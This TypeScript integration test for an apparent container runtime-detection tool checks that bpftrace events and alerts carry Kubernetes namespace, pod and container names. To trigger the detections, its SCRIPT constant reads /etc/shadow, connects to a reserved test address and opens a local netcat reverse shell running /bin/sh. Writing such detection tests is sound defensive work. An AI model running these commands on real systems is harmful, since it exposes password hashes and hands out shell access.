/**
 * Pod attribution on real containers, real bpftrace and the Kubernetes watch (API double): Docker
 * starts containers under the kubelet's pod cgroups (`--cgroup-parent /kubepods/burstable/pod<uid>`,
 * `/kubepods/besteffort/pod<uid>` with the cgroupfs driver; the `.slice` form with the systemd
 * driver), the API double serves the matching pods with `containerd://<id>` in their status, and the
 * exec, open and connect events of each container, and their alerts, name its namespace, pod and
 * container, from the cgroup path and the pod watch alone (no Docker metadata is asked for).
 */
import { randomUUID } from 'node:crypto';
import { mkdtempSync, readdirSync, rmdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { RuntimeDetector } from '../../src/detect/runtime/detector.js';
import { Engine } from '../../src/engine/engine.js';
import { openStore } from '../../src/infra/db.js';
import type { Alert } from '../../src/model/alert.js';
import type { ContainerRef, VigieEvent } from '../../src/model/event.js';
import { BpftraceSensor } from '../../src/sources/bpftrace/sensor.js';
import { KubernetesSource } from '../../src/sources/kubernetes.js';
import { PodDirectory } from '../../src/sources/pods.js';
import type { ContainerAttribution, Source } from '../../src/sources/types.js';
import { ensureTestbedImage } from '../../src/testbed/image.js';
import { startApiDouble } from '../utils/k8s-api-double.js';
import {
  bpftraceAvailable,
  discardedOutput,
  docker,
  dockerAvailable,
  removeContainer,
  waitFor,
} from '../utils/live.js';

const hasDocker = await dockerAvailable();
const hasBpf = hasDocker && bpftraceAvailable();
const driver = hasDocker ? ((await docker.info()) as { CgroupDriver?: string }).CgroupDriver : undefined;

/** The kubelet's pod cgroup for a QoS class, in the form of Docker's cgroup driver. */
function podCgroup(qos: 'burstable' | 'besteffort', uid: string): string {
  if (driver === 'systemd') return `kubepods-${qos}-pod${uid.replace(/-/g, '_')}.slice`;
  return `/kubepods/${qos}/pod${uid}`;
}

/** Docker leaves the parent folders it made: remove the pod's (empty once its container is gone). */
function removePodCgroups(qos: string, uid: string): void {
  for (const hierarchy of readdirSync('/sys/fs/cgroup')) {
    try {
      rmdirSync(join('/sys/fs/cgroup', hierarchy, 'kubepods', qos, `pod${uid}`));
    } catch {
      // not made in this hierarchy, or already gone
    }
  }
}

/** Attribution that must not be asked: the pods alone name these containers. */
class NoDocker implements ContainerAttribution {
  asked: string[] = [];
  known(): undefined {
    return undefined;
  }
  async lookup(id: string): Promise<ContainerRef | undefined> {
    this.asked.push(id);
    return undefined;
  }
  onChange(): void {}
}

// A sensitive read, a connection to an unusual port (TEST-NET-1, nothing answers), then a reverse
// shell (nc runs /bin/sh in its own process: an exec spawned by a network relay).
const SCRIPT =
  'sleep 3; cat /etc/shadow >/dev/null; nc -w 1 192.0.2.10 9999 </dev/null; ' +
  'nc -l -p 4444 </dev/null >/dev/null & sleep 1; nc 127.0.0.1 4444 -e /bin/sh; sleep 60';

describe.skipIf(!hasBpf || (driver !== 'cgroupfs' && driver !== 'systemd'))(
  `pod attribution on real containers (Docker, ${driver} cgroup driver) and bpftrace`,
  () => {
    it('names namespace, pod and container on exec, open and connect events and their alerts', async () => {
      const tmp = mkdtempSync(join(tmpdir(), 'vigie-live-pods-'));
      const db = openStore(join(tmp, 'vigie.db'));
      const image = await ensureTestbedImage(docker);
      const api = await startApiDouble([{ apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'shop' } }]);
      const pods = new PodDirectory({ waitMs: 5000 });
      const noDocker = new NoDocker();
      const sensor = new BpftraceSensor({ hostname: 'node-1', containers: noDocker, pods, syscalls: false });
      const events: VigieEvent[] = [];
      // The sensor, with its events seen on their way to the engine.
      const tapped: Source = {
        name: sensor.name,
        start: (sink) =>
          sensor.start((ev) => {
            events.push(ev);
            return sink(ev);
          }),
        stop: () => sensor.stop(),
        stats: () => sensor.stats(),
      };
      const alerts: Alert[] = [];
      const engine = new Engine({
        db,
        hostname: 'node-1',
        output: discardedOutput(),
        mode: 'monitor',
        sources: [
          new KubernetesSource({ hostname: 'node-1', kubeConfig: api.kubeConfig, kinds: ['Pod'], pods }),
          tapped,
        ],
        detectors: [new RuntimeDetector()],
        onAlert: (a) => alerts.push(a),
      });
      const workloads = [
        {
          qos: 'burstable' as const,
          uid: randomUUID(),
          pod: 'web-7d9f8c6b5-x2kqz',
          owner: 'web-7d9f8c6b5',
          container: 'app',
        },
        {
          qos: 'besteffort' as const,
          uid: randomUUID(),
          pod: 'batch-0',
          owner: 'batch',
          container: 'worker',
        },
      ];
      const ids: string[] = [];
      try {
        await engine.start();
        expect(sensor.running).toBe(true);
        for (const [i, w] of workloads.entries()) {
          const c = await docker.createContainer({
            Image: image,
            name: `vigie-live-pod-${process.pid}-${Date.now()}-${i}`,
            Cmd: ['sh', '-c', SCRIPT],
            Labels: { 'vigie.test': 'live' },
            HostConfig: { CgroupParent: podCgroup(w.qos, w.uid) },
          });
          ids.push(c.id);
          const pod = {
            apiVersion: 'v1',
            kind: 'Pod',
            metadata: {
              name: w.pod,
              namespace: 'shop',
              uid: w.uid,
              labels: { app: w.owner },
              ownerReferences: [
                {
                  apiVersion: 'apps/v1',
                  kind: i === 0 ? 'ReplicaSet' : 'StatefulSet',
                  name: w.owner,
                  uid: randomUUID(),
                  controller: true,
                },
              ],
            },
            spec: {
              nodeName: 'node-1',
              serviceAccountName: w.owner,
              containers: [{ name: w.container, image }],
            },
            status: {
              phase: 'Running',
              qosClass: w.qos === 'burstable' ? 'Burstable' : 'BestEffort',
              containerStatuses: [
                { name: w.container, image, containerID: `containerd://${c.id}`, ready: true },
              ],
            },
          };
          // The first pod is served before its container starts; the second a moment after, as a
          // kubelet's status update lags behind the container: its first events wait for it.
          if (i === 0) api.put(pod);
          await c.start();
          if (i === 1) setTimeout(() => api.put(pod), 500);
        }
        const byRule = (id: string, rule: string) => () =>
          alerts.find((a) => a.vigie.entities.container?.id === id && a.rule === rule);
        for (const [i, w] of workloads.entries()) {
          const id = ids[i];
          const rules: [rule: string, kind: VigieEvent['kind']][] = [
            ['Shell spawned in container', 'process'],
            ['Read sensitive file untrusted', 'file'],
            ['Outbound connection to unusual port', 'network'],
          ];
          for (const [rule, kind] of rules) {
            const a = await waitFor(byRule(id, rule), 30_000, `"${rule}" on ${w.pod}`).catch((err: Error) => {
              const mine = alerts.filter((x) => x.vigie.entities.container?.id === id);
              throw new Error(
                `${err.message}; its alerts: ${JSON.stringify(mine.map((x) => [x.rule, x.vigie.entities]))}`,
              );
            });
            expect(a.vigie.entities.k8s, rule).toMatchObject({
              namespace: 'shop',
              pod: w.pod,
              workload: w.owner,
              node: 'node-1',
              serviceAccount: w.owner,
            });
            expect(a.vigie.entities.container, rule).toMatchObject({ id, name: w.container, image });
            expect(a.vigie.entities.workload, rule).toBe(`k8s:shop/${i === 0 ? 'web-7d9f8c6b5' : 'batch'}`);
            expect(a.output, rule).toContain(`container ${w.container} (${image})`);
            // The event it was raised on: the exec, the open, the connect.
            const ev = events.find((e) => e.id === a.vigie.evidence[0]);
            expect(ev?.kind, rule).toBe(kind);
            expect(ev?.k8s, rule).toMatchObject({ namespace: 'shop', pod: w.pod });
            expect(ev?.container, rule).toMatchObject({ id, name: w.container });
          }
          const mine = events.filter((e) => e.container?.id === id);
          expect(mine.some((e) => e.kind === 'process' && e.proc?.exe === '/bin/sh')).toBe(true);
          expect(mine.some((e) => e.kind === 'file' && e.file?.path === '/etc/shadow')).toBe(true);
          expect(mine.some((e) => e.kind === 'network' && e.network?.dstPort === 9999)).toBe(true);
          // Every event of the container, the first ones (held while the pod was not known) too.
          expect(mine.every((e) => e.k8s?.pod === w.pod && e.container?.name === w.container)).toBe(true);
        }
        expect(noDocker.asked).toEqual([]);
        expect(sensor.stats().podAttributed).toBeGreaterThan(0);
        expect(pods.stats()).toMatchObject({ fromWatch: 2, unknown: 0, podOnly: 0 });
      } finally {
        await engine.stop();
        for (const id of ids) await removeContainer(id);
        for (const w of workloads) removePodCgroups(w.qos, w.uid);
        await api.close();
        db.close();
        rmSync(tmp, { recursive: true, force: true });
      }
    }, 90_000);
  },
);
